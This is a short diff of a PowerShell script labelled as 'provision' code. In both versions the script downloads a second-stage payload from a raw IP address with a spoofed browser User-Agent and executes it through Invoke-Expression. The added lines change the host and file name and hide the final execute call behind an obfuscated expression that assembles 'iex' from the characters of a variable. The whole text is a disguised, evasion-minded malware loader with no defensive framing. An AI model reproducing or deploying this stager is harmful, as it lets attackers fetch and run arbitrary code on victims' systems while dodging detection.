@@ -1,7 +1,7 @@
-Invoke-Expression -Command '# bootstrap 7593 v2
-$u = ''http://203.0.113.17:1337/''
+'# provision 9788 v2
+$u = ''http://198.51.100.9:8080/''
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add(''User-Agent'',''Mozilla/5.0'')
-$s = $wc.DownloadString($u + ''stage2.ps1'')
+$s = $wc.DownloadString($u + ''payload.ps1'')
 Invoke-Expression $s
-'
+' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
